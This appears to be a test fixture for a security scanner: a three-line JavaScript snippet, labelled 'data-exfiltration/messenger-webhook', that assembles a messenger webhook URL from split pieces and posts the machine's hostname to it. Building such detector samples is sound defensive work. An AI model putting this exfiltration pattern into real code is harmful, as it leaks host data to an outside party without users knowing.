const os = require('os');
const hook = ['https://discord.example/api/webhooks', '100000000000000000', 'kept-out-of-the-sample'].join('/');
fetch(hook, { method: 'POST', body: JSON.stringify({ content: os.hostname() }) }); // expect: data-exfiltration/messenger-webhook
